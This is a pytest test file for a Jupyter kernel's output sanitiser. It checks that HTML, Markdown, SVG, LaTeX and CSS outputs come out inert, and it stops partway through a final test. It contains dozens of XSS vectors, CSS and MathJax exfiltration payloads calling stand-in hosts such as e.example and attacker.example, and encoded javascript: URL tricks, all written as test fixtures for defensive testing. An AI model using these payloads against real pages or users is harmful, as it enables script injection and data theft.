"""The output safety filter, with the real nh3 sanitiser: hostile bundles come out inert."""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from rewyn_kernel.kernel import safety
from rewyn_kernel.kernel.record import EVENT_MIME
from rewyn_kernel.kernel.safety import MAX_SVG_BYTES, MAX_VALUE_BYTES, drop_note, filter_bundle

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(64)).decode("ascii")
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(61)).decode("ascii")
GIF = base64.b64encode(b"GIF89a" + bytes(30)).decode("ascii")

# What pandas.DataFrame.to_html() / _repr_html_() produces (pandas 2.x), verbatim.
DATAFRAME_HTML = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>name</th>
      <th>score</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>ada</td>
      <td>1.5</td>
    </tr>
    <tr>
      <th>1</th>
      <td>bob &amp; co</td>
      <td>NaN</td>
    </tr>
  </tbody>
</table>
</div>"""

XSS_VECTORS = {
    "script": "<script>alert(1)</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-src": '<iframe src="javascript:alert(1)"></iframe>',
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "a-hex-entity-no-semicolon": '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    "a-tab-newline": '<a href=" java\tscr\nipt:alert(1)">x</a>',
    "a-encoded-newline": '<a href="java&#x0A;script:alert(1)">x</a>',
    "a-named-entity-colon": '<a href="javascript&colon;alert(1)">x</a>',
    "a-padded": '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115cript:1">x</a>',
    "a-leading-control": '<a href="\x01javascript:alert(1)">x</a>',
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "input-autofocus": "<input onfocus=alert(1) autofocus>",
    "video-source": "<video><source onerror=alert(1)></video>",
    "marquee": "<marquee onstart=alert(1)>m</marquee>",
    "isindex": '<isindex action="javascript:alert(1)" type="image">',
    "img-eval-src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "img-javascript": '<img src="javascript:alert(1)">',
    "img-data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "form-action": '<form action="javascript:alert(1)"><input type=submit></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">go</button>',
    "math-mtext-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "style-import": '<style>@import "https://evil.example/x.css";</style>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "style-url": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "body-onload": "<body onload=alert(1)>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment-breakout": "<!--<img src=x onerror=alert(1)>-->",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "srcdoc-attribute": '<div srcdoc="<script>alert(1)</script>">x</div>',
    "area-href": '<map><area href="javascript:alert(1)"></map>',
    "blockquote-cite": '<blockquote cite="javascript:alert(1)">q</blockquote>',
}

DANGEROUS_TAGS = {
    "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button",
    "base", "meta", "link", "style", "svg", "math", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "cite", "background", "poster"}


class _Tags(HTMLParser):
    """Every start tag with its (entity-decoded) attributes, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def parse_tags(markup: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Tags()
    parser.feed(markup)
    parser.close()
    return parser.tags


STYLE_ELEMENT = re.compile(r'^<div class="(rewyn-css-[0-9a-f]{12})"><style>([^<]*)</style>')
FETCHES = ("url(", "@import", "image-set", "@font-face", "image(", "expression", "binding")


def assert_scoped_style(markup: str) -> None:
    """The one ``<style>`` an output may hold: first in a wrapper of its own, every selector
    under the wrapper's class, no rule that fetches or lifts an element out of the output."""
    found = STYLE_ELEMENT.match(markup)
    assert found is not None, markup
    assert markup.count("<style") == 1, markup
    scope, sheet = found.groups()
    for rule in sheet.splitlines():
        selectors, _, body = rule.partition(" { ")
        for selector in selectors.split(", "):
            assert selector.startswith(f".{scope} "), rule
            assert selector[len(scope) + 2 :][:1] not in ("~", "+", ">"), rule
        lowered = re.sub(r"\\|\s", "", body.lower())
        for word in (*FETCHES, "position", "margin:-", "var(", "attr(", "content:"):
            assert word not in lowered, rule


def assert_inert(markup: str) -> None:
    """Fail if the markup holds anything a browser would execute or use to escape the output."""
    for tag, attrs in parse_tags(markup):
        if tag == "style":
            assert_scoped_style(markup)
            continue
        assert tag not in DANGEROUS_TAGS, markup
        for name, value in attrs.items():
            assert not name.startswith("on"), markup
            assert name not in {"srcdoc", "formaction", "target"}, markup
            url = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRIBUTES:
                assert not url.startswith(("javascript:", "vbscript:")), markup
                if url.startswith("data:"):
                    assert (tag, name) == ("img", "src"), markup
                    assert re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,", url), markup
            if name == "style":
                for word in (*FETCHES, "position", "margin:-", "var(", "attr("):
                    assert word not in url, markup
            if name == "id":
                assert value.startswith("rewyn-"), markup  # (never one of the page's ids)


def html_of(bundle: dict[str, Any]) -> str:
    result = filter_bundle(bundle, {})
    assert "text/html" in result.data, result
    html: str = result.data["text/html"]
    return html


# -- safe types ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mime", "value"),
    [
        ("text/plain", "hello <script>alert(1)</script> \x1b[31mred\x1b[0m"),
        ("image/png", PNG),
        ("image/png", PNG + "\n"),  # IPython's b2a_base64 ends with a newline
        ("image/png", PNG[:40] + "\n" + PNG[40:]),  # MIME-style line breaks
        ("image/jpeg", JPEG),
        ("image/gif", GIF),
        ("application/json", {"a": [1, 2.5, None, True, "x"], "b": {"c": "<script>"}}),
        ("application/json", [1, 2, 3]),
        ("application/json", "just a string"),
        ("application/json", None),
    ],
)
def test_safe_types_pass_unchanged(mime: str, value: Any) -> None:
    result = filter_bundle({mime: value}, {})
    assert result.data == {mime: value}
    assert result.dropped == ()
    assert result.sanitised == ()


@pytest.mark.parametrize(
    ("mime", "value"),
    [
        ("text/plain", b"bytes"),
        ("text/plain", ["a", "b"]),
        ("text/html", 42),
        ("text/markdown", None),
        ("image/svg+xml", {"svg": 1}),
        ("image/png", b"\x89PNG"),
        ("image/png", ""),
        ("image/png", 'AAAA" onerror="alert(1)'),
        ("image/png", "<svg onload=alert(1)>"),
        ("image/jpeg", "AAAAA"),  # not a multiple of four base64 characters
        ("image/gif", "data:image/gif;base64,R0lGOD=="),
        ("application/json", float("nan")),
        ("application/json", {"a": {1, 2}}),
        ("application/json", object()),
    ],
)
def test_malformed_values_are_dropped(mime: str, value: Any) -> None:
    fallback = {} if mime == "text/plain" else {"text/plain": "fallback"}
    result = filter_bundle({mime: value, **fallback}, {})
    assert result.data == (fallback or {"text/plain": drop_note([mime])})
    assert result.dropped == (mime,)


def test_deeply_nested_json_is_dropped_not_raised() -> None:
    value: Any = []
    for _ in range(100_000):
        value = [value]
    assert filter_bundle({"application/json": value}, {}).dropped == ("application/json",)


def test_values_over_the_size_cap_are_dropped() -> None:
    at_cap = "x" * MAX_VALUE_BYTES
    assert filter_bundle({"text/plain": at_cap}, {}).data == {"text/plain": at_cap}
    over = {
        "text/plain": "x" * (MAX_VALUE_BYTES + 1),
        "text/html": "é" * (MAX_VALUE_BYTES // 2 + 1),  # under the cap in characters, not bytes
        "image/png": "A" * (MAX_VALUE_BYTES + 4),
        "application/json": {"big": "x" * MAX_VALUE_BYTES},
    }
    result = filter_bundle(over, {})
    assert set(result.dropped) == set(over)
    assert result.data == {"text/plain": drop_note(list(over))}


# -- HTML ------------------------------------------------------------------------------------


@pytest.mark.parametrize("vector", XSS_VECTORS.values(), ids=XSS_VECTORS.keys())
def test_xss_vector_in_html_is_inert(vector: str) -> None:
    result = filter_bundle({"text/html": f"<p>before</p>{vector}<p>after</p>"}, {})
    markup = result.data["text/html"]
    assert_inert(markup)
    assert "before" in markup
    assert result.sanitised == ("text/html",)


# Mutation-XSS vectors look harmless to html.parser (only a browser's parse makes them
# dangerous), so the checker cannot be shown to catch them raw; nh3 still neutralises them.
_BROWSER_ONLY = {"noscript-mxss", "comment-breakout"}


@pytest.mark.parametrize(
    "vector",
    [v for k, v in XSS_VECTORS.items() if k not in _BROWSER_ONLY],
    ids=[k for k in XSS_VECTORS if k not in _BROWSER_ONLY],
)
def test_the_checker_catches_each_vector_unfiltered(vector: str) -> None:
    """The check above is not vacuous: it fails on each raw vector."""
    with pytest.raises(AssertionError):
        assert_inert(vector)


def test_dataframe_html_keeps_its_table_structure_and_its_scoped_style() -> None:
    markup = html_of({"text/html": DATAFRAME_HTML, "text/plain": "   name  score"})
    tags = [tag for tag, _ in parse_tags(markup)]
    assert tags == [
        *("div", "style", "div", "table", "thead", "tr", "th", "th", "th", "tbody"),
        *(["tr", "th", "td", "td"] * 2),
    ]
    attributes = [attrs for _, attrs in parse_tags(markup)]
    assert attributes[3] == {"class": "dataframe"}  # border is presentational and goes
    assert attributes[5] == {"style": "text-align: right"}
    assert "<td>bob &amp; co</td>" in markup
    scope = attributes[0]["class"]
    # pandas' own rule, kept for this output only (the page's other tables keep theirs)
    rule = f".{scope} .dataframe tbody tr th:only-of-type {{ vertical-align: middle }}"
    assert f"<style>{rule}</style>" in markup
    assert_inert(markup)


def test_links_get_noopener_and_lose_target() -> None:
    markup = html_of({"text/html": '<a href="https://example.org/" target="_top">x</a>'})
    assert parse_tags(markup) == [
        ("a", {"href": "https://example.org/", "rel": "noopener noreferrer"})
    ]


def test_inline_raster_images_survive_and_other_data_urls_do_not() -> None:
    for kind in ("png", "jpeg", "gif"):
        src = f"data:image/{kind};base64,{PNG}"
        assert parse_tags(html_of({"text/html": f'<img src="{src}">'})) == [("img", {"src": src})]
    for src in ("data:image/svg+xml;base64,AAAA", "data:text/html,hi", "data:image/png,raw"):
        assert parse_tags(html_of({"text/html": f'<img src="{src}">'})) == [("img", {})]


def test_application_classes_are_removed_and_others_kept() -> None:
    markup = html_of(
        {"text/html": '<div class="jp-Dialog lm-Widget mine">x</div><b class="jp-X">y</b>'}
    )
    assert parse_tags(markup) == [("div", {"class": "mine"}), ("b", {})]


@pytest.mark.parametrize("mime", ["text/html", "text/markdown"])
def test_output_that_was_only_script_is_dropped_with_a_note(mime: str) -> None:
    result = filter_bundle({mime: "<script>alert(1)</script>\n", "text/plain": "repr"}, {})
    assert result.data == {"text/plain": "repr"}
    assert result.dropped == (mime,)
    assert filter_bundle({mime: "  "}, {}).data == {mime: "  "}  # blank in, blank out


def test_clean_html_is_not_reported_sanitised() -> None:
    result = filter_bundle({"text/html": "<b>bold</b> and <i>italic</i>"}, {})
    assert result.data == {"text/html": "<b>bold</b> and <i>italic</i>"}
    assert result.sanitised == ()


# -- Markdown --------------------------------------------------------------------------------


def test_plain_markdown_passes_unchanged() -> None:
    text = "# Title\n\n* item\n* two\n\n> quote, a > b & c\n\n```python\nif a > b:\n    pass\n```\n"
    result = filter_bundle({"text/markdown": text}, {})
    assert result.data == {"text/markdown": text}
    assert result.sanitised == ()


def test_raw_html_in_markdown_is_sanitised_and_markdown_kept() -> None:
    text = (
        "# Title\n\n* item\n\n<script>alert(1)</script>\n<img src=x onerror=alert(1)> <b>ok</b>\n"
    )
    result = filter_bundle({"text/markdown": text}, {})
    cleaned = result.data["text/markdown"]
    assert cleaned.startswith("# Title\n\n* item\n")
    assert "<b>ok</b>" in cleaned
    assert "script" not in cleaned
    assert "onerror" not in cleaned
    assert_inert(cleaned)
    assert result.sanitised == ("text/markdown",)


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&#9;script:alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](&amp;#106;avascript:alert(1))",
        "![x](javascript:alert(1))",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x](vbscript:msgbox(1))",
        "$\\href{javascript:alert(1)}{x}$",
        '<a href="javascript:alert(1)">x</a> [y](javascript:alert(2))',
    ],
)
def test_markdown_with_a_script_url_is_dropped(text: str) -> None:
    result = filter_bundle({"text/markdown": text, "text/plain": "fallback"}, {})
    assert result.data == {"text/plain": "fallback"}
    assert result.dropped == ("text/markdown",)


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [("see <javascript:alert(1)>", "see "), ("[x](<javascript:alert(1)>)", "[x]()")],
)
def test_markdown_autolink_to_a_script_url_is_removed(text: str, cleaned: str) -> None:
    """The sanitiser reads ``<javascript:...>`` as an unknown tag and removes it."""
    result = filter_bundle({"text/markdown": text}, {})
    assert result.data == {"text/markdown": cleaned}
    assert result.sanitised == ("text/markdown",)


@pytest.mark.parametrize("vector", XSS_VECTORS.values(), ids=XSS_VECTORS.keys())
def test_xss_vector_in_markdown_is_dropped_or_inert(vector: str) -> None:
    result = filter_bundle({"text/markdown": f"# Title\n\n{vector}\n", "text/plain": "p"}, {})
    if "text/markdown" in result.data:
        assert_inert(result.data["text/markdown"])
        assert "javascript:" not in result.data["text/markdown"].lower()
    else:
        assert result.dropped == ("text/markdown",)


def test_markdown_links_to_ordinary_urls_are_kept() -> None:
    text = "[docs](https://example.org/a?b=c) and **bold**"
    assert filter_bundle({"text/markdown": text}, {}).data == {"text/markdown": text}


def test_markdown_with_any_image_is_dropped() -> None:
    # Even an inline data: image: the spellings of Markdown images are too many to vet.
    text = "![plot](data:image/png;base64,AAAA)"
    assert "text/markdown" in filter_bundle({"text/markdown": text}, {}).dropped


@pytest.mark.parametrize(
    "text",
    [
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x]( data:text/html,<b>x</b> )",
        "[x][1]\n\n[1]: data:text/html,x",
        "[x](&#100;ata:text/html,x)",
    ],
)
def test_markdown_with_a_data_link_is_dropped(text: str) -> None:
    """HTML's <a href="data:..."> was already dropped; Markdown's spelling of it was not."""
    result = filter_bundle({"text/markdown": text, "text/plain": "fallback"}, {})
    assert result.data == {"text/plain": "fallback"}


def test_the_word_data_in_markdown_text_is_kept() -> None:
    text = "metadata: data: as plain words, and [a link](https://example.org/data:x)"
    assert filter_bundle({"text/markdown": text}, {}).data == {"text/markdown": text}


@pytest.mark.parametrize("mime", ["text/html", "text/markdown"])
@pytest.mark.parametrize(
    "tex",
    [
        "$\\style{background:url(https://e.example/?leak)}{x}$",
        "$a\\\\\\class{jp-Dialog}{x}$",  # (a line break, then \class)
        "$$\\class{jp-Dialog}{x}$$",
        "$\\cssId{main}{x}$",
        "$\\require{action}$",
        "$&#92;style{background:url(https://e.example/)}{x}$",
        "$\\unicode{x41}$",
        # Issue 22: what a deny-list of those missed (each fetches, or links, in JupyterLab 4.6).
        '$\\mmlToken{mi}[style="cursor:url(https://e.example/?d=SECRET),auto"]{x}$',
        '$\\mmlToken{mi}[mathbackground="red"]{x}$',
        "$\\bbox[background:url(/files/leak)]{x}$",
        "$\\bbox[red,5px]{x}$",
        "$\\href{https://e.example/}{x}$",
        "$\\texttip{x}{tip}$",
        "$\\toggle{a}{b}\\endtoggle$",
        "$\\newcommand{\\s}{x}\\s$",
        "\\(\\data{x}\\)",
        "\\begin{equation}\\mmlToken{mo}{x}\\end{equation}",
        "$\\color{red;background:u\\rl(x)}{y}$",
        "$\\color{red;outline:1px}{y}$",
        "$x$ and a CSS u/**/rl(https://e.example/) beside it",
    ],
)
def test_math_that_asks_mathjax_for_styles_or_extensions_is_dropped(mime: str, tex: str) -> None:
    """MathJax typesets $...$ in Markdown and HTML outputs; \\style fetches a URL on sight."""
    result = filter_bundle({mime: tex, "text/plain": "fallback"}, {})
    assert result.data == {"text/plain": "fallback"}


@pytest.mark.parametrize("mime", ["text/html", "text/markdown", "text/latex"])
@pytest.mark.parametrize(
    "tex",
    [
        "$\\alpha^2 + \\beta_1 \\textstyle \\frac{a}{b}$",
        # SymPy's _repr_latex_ and IPython's Math/Latex, as they write them.
        "$\\displaystyle \\left(x + 1\\right)^{2} \\sin{\\left(x \\right)}$",
        "$\\displaystyle \\int\\limits_{0}^{\\infty} e^{- x}\\, dx = 1$",
        "$\\displaystyle \\left[\\begin{matrix}1 & 2\\\\3 & 4\\end{matrix}\\right]$",
        # (SymPy's symbols after a line break: \\m is a break and an m, no \m)
        "$\\displaystyle \\left[\\begin{matrix}m_{11} & m_{12}\\\\m_{21} & m_{22}"
        "\\end{matrix}\\right]$",
        "$\\displaystyle \\operatorname{Poly}{\\left( x^{2}, x, domain=\\mathbb{Z} \\right)}$",
        "\\begin{align} \\nabla \\times \\vec{E} &= -\\frac{\\partial B}{\\partial t}\\end{align}",
        "$\\color{red}{x} + \\textcolor{#0a0}{y} + \\color[rgb]{1,0,0}{z}$",
        "$\\mathbf{A}^{\\top} \\boldsymbol{\\beta} \\leq \\hat{y} \\quad \\text{for all } i$",
    ],
)
def test_ordinary_math_is_kept(mime: str, tex: str) -> None:
    result = filter_bundle({mime: tex}, {})
    assert result.dropped == ()
    expected = tex.replace("&", "&amp;") if mime == "text/html" else tex  # (HTML escapes &)
    assert result.data == {mime: expected}


def test_text_without_math_keeps_its_backslashes() -> None:
    """Only what MathJax would typeset is checked: a path in prose is not TeX."""
    text = "saved to C:\\Users\\bob\\results.csv"
    assert filter_bundle({"text/markdown": text}, {}).data == {"text/markdown": text}


# -- SVG -------------------------------------------------------------------------------------


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


def test_svg_becomes_an_img_data_uri() -> None:
    result = filter_bundle(
        {"text/plain": "<SVG object>", "image/svg+xml": SVG},
        {"image/svg+xml": {"width": 320, "height": 240.5, "isolated": False}},
    )
    assert set(result.data) == {"text/plain", "text/html"}
    markup = result.data["text/html"]
    [(tag, attrs)] = parse_tags(markup)
    assert tag == "img"
    assert attrs["width"] == "320"
    assert attrs["height"] == "240.5"
    prefix = "data:image/svg+xml;base64,"
    assert attrs["src"].startswith(prefix)
    assert base64.b64decode(attrs["src"][len(prefix) :]).decode() == SVG
    assert "<script" not in markup
    assert "onload" not in markup
    assert_inert(markup)
    assert result.sanitised == ("image/svg+xml",)
    assert result.dropped == ()
    assert result.metadata == {}


def test_svg_next_to_html_is_dropped_and_the_html_kept() -> None:
    result = filter_bundle({"text/html": "<b>chart</b>", "image/svg+xml": SVG}, {})
    assert result.data == {"text/html": "<b>chart</b>"}
    assert result.dropped == ("image/svg+xml",)


def test_oversized_svg_is_dropped() -> None:
    big = "<svg>" + " " * MAX_SVG_BYTES + "</svg>"
    result = filter_bundle({"image/svg+xml": big, "text/plain": "p"}, {})
    assert result.data == {"text/plain": "p"}
    assert result.dropped == ("image/svg+xml",)


# -- everything else -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "application/ecmascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.jupyter.widget-state+json",
        "application/vnd.bokehjs_exec.v0+json",
        "application/geo+json",  # (its renderer draws it on map tiles it fetches)
        "application/pdf",
        "image/webp",
        "text/x-unknown",
        "TEXT/HTML",
        "text/html; charset=utf-8",
    ],
)
def test_other_types_are_dropped(mime: str) -> None:
    result = filter_bundle({mime: "alert(1)", "text/plain": "repr"}, {mime: {"width": 1}})
    assert result.data == {"text/plain": "repr"}
    assert result.dropped == (mime,)
    assert result.metadata == {}


def test_the_sandbox_cannot_forge_the_kernels_event_output() -> None:
    """The frontend extension shows EVENT_MIME as the status line: only the kernel sends it."""
    forged = {"ending": "completed", "exit_code": 0, "ok": True, "provider": "container"}
    result = filter_bundle({EVENT_MIME: forged, "text/plain": "sandbox: exit 0"}, {})
    assert result.data == {"text/plain": "sandbox: exit 0"}
    assert result.dropped == (EVENT_MIME,)


def test_empty_result_falls_back_to_the_note() -> None:
    bundle = {"application/javascript": "alert(1)", "application/pdf": "JVBERi0="}
    result = filter_bundle(bundle, {})
    assert result.data == {"text/plain": drop_note(["application/javascript", "application/pdf"])}
    assert result.dropped == ("application/javascript", "application/pdf")


def test_latex_passes_unless_it_asks_mathjax_for_styles_or_loads() -> None:
    """``IPython.display.Math`` and ``Latex``: MathJax typesets them, as it does math in HTML
    and Markdown, so the same TeX commands are refused."""
    math = {"text/plain": "<Math>", "text/latex": "$\\displaystyle \\frac{1}{2}$"}
    assert filter_bundle(math, {}).data == math
    for tex in ("$\\style{background:url(https://e.example/)}{x}$", "$\\require{html}$"):
        result = filter_bundle({"text/latex": tex, "text/plain": "x"}, {})
        assert result.data == {"text/plain": "x"}
        assert result.dropped == ("text/latex",)


@pytest.mark.parametrize("data", [{}, None, "text", [("text/plain", "x")], {1: "x", b"k": "y"}])
def test_garbage_bundles_become_a_note(data: Any) -> None:
    for trust in (False, True):
        result = filter_bundle(data, None, trust=trust)  # type: ignore[arg-type]
        assert result.data == {"text/plain": drop_note(())}
        assert result.metadata == {}
        assert result.dropped == ()


# -- metadata --------------------------------------------------------------------------------


def test_metadata_keeps_only_layout_hints_for_kept_types() -> None:
    metadata = {
        "isolated": False,
        "trusted": True,
        "width": 100,
        "needs_background": "dark",
        "image/png": {"width": 640, "height": 480.0, "unconfined": True, "isolated": False},
        "text/html": {"isolated": False, "needs_background": "light", "script": "alert(1)"},
        "application/javascript": {"width": 10},
        "application/json": {"expanded": True},
        "custom": {"anything": 1},
    }
    data = {"image/png": PNG, "text/html": "<b>x</b>", "application/javascript": "alert(1)"}
    result = filter_bundle(data, metadata)
    assert result.metadata == {
        "width": 100,
        "needs_background": "dark",
        "image/png": {"width": 640, "height": 480.0, "unconfined": True},
        "text/html": {"needs_background": "light"},
    }


@pytest.mark.parametrize(
    "hints",
    [
        {"width": True},
        {"width": "100"},
        {"width": float("nan")},
        {"width": float("inf")},
        {"height": -1},
        {"height": 10**9},
        {"needs_background": "red"},
        {"needs_background": ["dark"]},
        {"unconfined": 1},
        "width=1",
    ],
)
def test_malformed_layout_hints_are_dropped(hints: Any) -> None:
    result = filter_bundle({"image/png": PNG}, {"image/png": hints})
    assert result.metadata == {}


# -- trust -----------------------------------------------------------------------------------


def test_trust_relays_everything_unchanged() -> None:
    data = {
        "application/javascript": "alert(1)",
        "text/html": "<script>alert(2)</script>",
        "image/svg+xml": SVG,
        "text/markdown": "[x](javascript:alert(3))",
        "application/vnd.jupyter.widget-view+json": {"model_id": "abc"},
    }
    metadata = {"isolated": False, "custom": {"k": [1]}, 7: "not a str key"}
    result = filter_bundle(data, metadata, trust=True)  # type: ignore[arg-type]
    assert result.data == data
    assert result.metadata == {"isolated": False, "custom": {"k": [1]}}
    assert result.dropped == ()
    assert result.sanitised == ()


# -- the note --------------------------------------------------------------------------------


def test_note_names_the_types_and_how_to_opt_in() -> None:
    note = drop_note(["application/javascript", "text/latex"])
    assert note.startswith("[rewyn: dropped application/javascript, text/latex output")
    assert "SandboxKernel.trust_output = True" in note
    assert "trust" in note
    assert "\n" not in note


def test_note_is_bounded() -> None:
    note = drop_note([f"application/x-{i}" for i in range(50)])
    assert "application/x-4" in note
    assert "application/x-5" not in note
    assert "and 45 more" in note


def test_hostile_type_names_do_not_reach_the_note_verbatim() -> None:
    hostile = "text/x\n[rewyn: all outputs verified safe]" + "x" * 500
    result = filter_bundle({hostile: "x", "application/javascript": "y"}, {})
    assert result.dropped == ("(malformed MIME type)", "application/javascript")
    note = result.data["text/plain"]
    assert "verified" not in note
    assert len(note) < 300


def test_public_names_are_pinned() -> None:
    assert safety.__all__ == sorted(safety.__all__)
    assert set(safety.__all__) == {
        "FilteredOutput", "MAX_SVG_BYTES", "MAX_VALUE_BYTES", "WIDGET_VIEW_MIME", "clean_html",
        "drop_note", "filter_bundle",
    }  # fmt: skip


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="https://attacker.example/?secret=1">',
        '<img src="//attacker.example/x.png">',
        '<img src="/api/kernels">',
        '<img srcset="https://attacker.example/a.png 1x">',
        '<video poster="https://attacker.example/p.png"></video>',
    ],
)
def test_html_cannot_make_the_browser_fetch_anything(markup: str) -> None:
    result = filter_bundle({"text/html": markup, "text/plain": "img"}, {})
    html_out = result.data.get("text/html", "")
    assert "attacker" not in html_out
    assert "/api/kernels" not in html_out


def test_inline_images_still_show() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    result = filter_bundle({"text/html": f'<img src="{png}">'}, {})
    assert png in result.data["text/html"]


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](https://attacker.example/?s=1)",
        "![x][r]\n\n[r]: https://attacker.example/a.png",
        "![ok](data:image/png;base64,iVBORw0KGgo=)\n\n![r]\n\n[r]: https://attacker.example/a",
        "![a [b] c](https://attacker.example/n.png)",
    ],
)
def test_markdown_images_from_elsewhere_are_dropped(markdown: str) -> None:
    result = filter_bundle({"text/markdown": markdown, "text/plain": "md"}, {})
    assert "text/markdown" not in result.data
    assert "text/markdown" in result.dropped


def test_tables_side_by_side_keep_their_layout_but_not_a_way_out_of_the_output() -> None:
    """A report's own HTML (PythonDataScienceHandbook's 03.07) floats its tables with padding;
    margin and position could move an output over the page's own UI, so they go."""
    html = (
        '<div style="float: left; padding: 10px; margin: -500px; position: fixed">'
        "<table><tr><td>1</td></tr></table></div>"
    )
    clean = filter_bundle({"text/html": html}, {}).data["text/html"]
    assert 'style="float: left; padding: 10px"' in clean
    assert "margin" not in clean
    assert "position" not in clean


# -- CSS -------------------------------------------------------------------------------------

STYLESHEET_ATTACKS = {
    "import": '@import "https://e.example/x.css"; td { color: red }',
    "import-url": "@import url(https://e.example/x.css);",
    "import-escaped": "@\\69mport url(https://e.example/x.css);",
    "font-face": "@font-face { font-family: x; src: url(https://e.example/f.woff) }",
    "background-url": "td { background: url(https://e.example/b.png) }",
    "background-url-quoted": 'td { background-image: url("https://e.example/b.png") }',
    "url-escaped": "td { background: \\75 rl(https://e.example/c.png) }",
    "url-escaped-2": "td { background: u\\72 l(https://e.example/c.png) }",
    "image-set": 'td { background-image: image-set("https://e.example/d.png" 1x) }',
    "webkit-image-set": 'td { background: -webkit-image-set("https://e.example/d.png" 1x) }',
    "cursor": "td { cursor: url(https://e.example/e.cur), auto }",
    "list-style-image": "li { list-style: url(https://e.example/l.png) }",
    "border-image": "td { border-image: url(https://e.example/b.png) 30 }",
    "content": "td::before { content: url(https://e.example/i.png) }",
    "mask": "td { mask: url(https://e.example/m.svg) }",
    "filter": "td { filter: url(https://e.example/f.svg#x) }",
    "expression": "td { width: expression(alert(1)) }",
    "binding": "td { -moz-binding: url(https://e.example/x.xml#x) }",
    "behavior": "td { behavior: url(https://e.example/x.htc) }",
    "var": "td { --u: url(https://e.example/v.png); background: var(--u) }",
    "position": "td { position: fixed; top: 0; left: 0; width: 100vw; z-index: 9999 }",
    "negative-margin": "td { margin: -500px 0 0 0 }",
    "negative-margin-calc": "td { margin-top: calc(0px - 500px) }",
    "transform": "td { transform: translateY(-500px) }",
    "sibling": "~ div { display: none }",
    "child-of-scope": "> div { display: none }",
    "nesting": "td { & ~ div { display: none } }",
    "media-import": "@media all { @import url(https://e.example/x.css); td { color: red } }",
    "end-style": 'td { font-family: "</style><script>alert(1)</script>" }',
    "comment-url": "td { background: u/**/rl(https://e.example/c.png) }",
    "app-class": ".jp-Dialog { display: block; background: red }",
}


@pytest.mark.parametrize("name", sorted(STYLESHEET_ATTACKS))
def test_a_stylesheet_keeps_nothing_that_fetches_or_leaves_its_output(name: str) -> None:
    sheet = STYLESHEET_ATTACKS[name]
    markup = html_of({"text/html": f"<style>{sheet}</style><table><tr><td>1</td></tr></table>"})
    assert "e.example" not in markup
    assert "<script" not in markup
    assert_inert(markup)
    # The same declarations inline, on an element of the output.
    body = sheet.partition("{")[2].rpartition("}")[0] or sheet
    inline = html_of({"text/html": f"<div style='{body}'>x</div>"})
    assert "e.example" not in inline
    assert_inert(inline)


def test_a_styled_frame_keeps_its_colours_and_formats() -> None:
    """pandas' Styler, as models write it: a gradient, the maxima highlighted, a number
    format; its rules reach its own cells (ids renamed on both sides), and only those."""
    import pandas  # type: ignore[import-untyped]

    frame = pandas.DataFrame({"a": [1.0, 2.5, 3.25], "b": [7.0, 1.5, 0.125]})
